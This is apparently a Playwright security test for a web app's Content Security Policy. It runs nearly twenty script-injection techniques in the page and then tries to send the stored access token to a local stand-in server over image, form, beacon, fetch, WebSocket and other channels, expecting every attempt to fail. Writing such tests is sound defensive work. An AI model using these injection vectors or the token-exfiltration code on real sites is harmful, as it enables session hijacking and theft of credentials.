import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { newClient } from './testing/accounts.ts';

/** Runs in the page. Tries each way in which injected content may run code; each way leaves a mark if it works. */
function insert(elsewhere: string): string[] {
  const page = window as unknown as Record<string, unknown> & {
    trustedTypes: { createPolicy: (...of: unknown[]) => unknown };
  };
  const code = (way: string) => `window.ran = [...(window.ran ?? []), ${JSON.stringify(way)}]`;
  const script = (about: object) => {
    const element = Object.assign(document.createElement('script'), about);
    document.head.append(element);
  };
  const addressOf = (text: string) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const box = document.createElement('div');
  document.body.append(box);
  const ways: Record<string, (way: string) => unknown> = {
    'an inline script': (way) => script({ textContent: code(way) }),
    'an inline script of text nodes': (way) => {
      const element = document.createElement('script');
      element.append(code(way));
      document.head.append(element);
    },
    'a script of another site': (way) => script({ src: `${elsewhere}?${encodeURIComponent(way)}` }),
    'a script of another site by attribute': (way) => {
      const element = document.createElement('script');
      element.setAttribute('src', `${elsewhere}?${encodeURIComponent(way)}`);
      document.head.append(element);
    },
    'a released script without its hash': () => {
      const { src } = document.querySelector<HTMLScriptElement>('script[src*="/r/shell/"]') ?? { src: '' };
      script({
        src: `${src}?again`,
        onload: () => Object.assign(window, { ran: ['a released script without its hash'] }),
      });
    },
    'a script of the page’s own address': (way) => script({ src: `/api/docs/json?${way}` }),
    'a blob': (way) => script({ src: addressOf(code(way)) }),
    'a data address': (way) => script({ src: `data:text/javascript,${code(way)}` }),
    'an import': (way) => import(/* webpackIgnore: true */ addressOf(code(way))),
    'a function of text': (way) => new Function(code(way))(),
    'a timer of text': (way) => setTimeout(code(way)),
    'a handler in HTML': (way) => {
      box.innerHTML = `<img src="x" onerror='${code(way)}'>`;
    },
    'a handler by attribute': (way) => {
      const image = document.createElement('img');
      image.setAttribute('onerror', code(way));
      image.src = 'x';
      box.append(image);
    },
    'a frame of HTML': (way) => {
      const frame = document.createElement('iframe');
      frame.srcdoc = `<script>parent.${code(way).replace('window.', '')}</script>`;
      box.append(frame);
    },
    'an address of code': (way) => {
      const link = Object.assign(document.createElement('a'), { href: `javascript:${code(way)}` });
      box.append(link);
      link.click();
    },
    'written HTML': (way) => document.write(`<script>${code(way)}</script>`),
    'a policy of one’s own': (way) => {
      page.trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
      page.ran = [way];
    },
    'the page’s policy again': (way) => {
      page.trustedTypes.createPolicy('default', { createScript: (text: string) => text });
      page.ran = [way];
    },
    'a base address': () => {
      const base = document.createElement('base');
      base.href = elsewhere;
      document.head.append(base);
      if (document.baseURI.startsWith(elsewhere)) page.ran = ['a base address'];
      base.remove();
    },
  };
  for (const [way, attempt] of Object.entries(ways)) {
    // Runs as a task of the page: code that Playwright evaluates may itself evaluate more.
    setTimeout(() => {
      try {
        Promise.resolve(attempt(way)).catch(() => {});
      } catch {
        // The browser refused it synchronously.
      }
    });
  }
  return Object.keys(ways);
}

it('what is inserted into the page does not run, and sends nothing away', async () => {
  const asked: string[] = [];
  const elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').setHeader('content-type', 'text/javascript');
    response.end('window.ran = ["a script of another site"]');
  });
  await new Promise<void>((listening) => elsewhere.listen(0, '127.0.0.1', listening));
  const away = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;
  try {
    const { page } = await newClient();
    const ways = await page.evaluate(insert, away);
    expect(ways.length).toBeGreaterThan(15);
    await page.evaluate(async (address) => {
      const loot = `${address}?${localStorage.getItem('access_token')}`;
      const form = Object.assign(document.createElement('form'), { method: 'post', action: loot, target: '_blank' });
      document.body.append(Object.assign(new Image(), { src: loot }), form);
      form.submit();
      navigator.sendBeacon(loot);
      const frame = Object.assign(document.createElement('iframe'), { src: loot });
      const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: loot });
      document.body.append(frame, sheet, Object.assign(document.createElement('audio'), { src: loot }));
      await Promise.allSettled([
        fetch(loot, { mode: 'no-cors' }),
        new Promise((_, closed) => Object.assign(new WebSocket(loot.replace('http', 'ws')), { onerror: closed })),
      ]);
    }, away);
    // A script that the browser allowed would have run by then.
    await page.evaluate(() => new Promise((done) => setTimeout(done, 1000)));
    expect(await page.evaluate(() => (window as unknown as { ran?: string[] }).ran)).toBeUndefined();
    expect(asked).toEqual([]);
  } finally {
    const closed = new Promise((done) => elsewhere.close(done));
    // The browser may have connected ahead without a request; Node would wait a minute for one.
    elsewhere.closeAllConnections();
    await closed;
  }
});
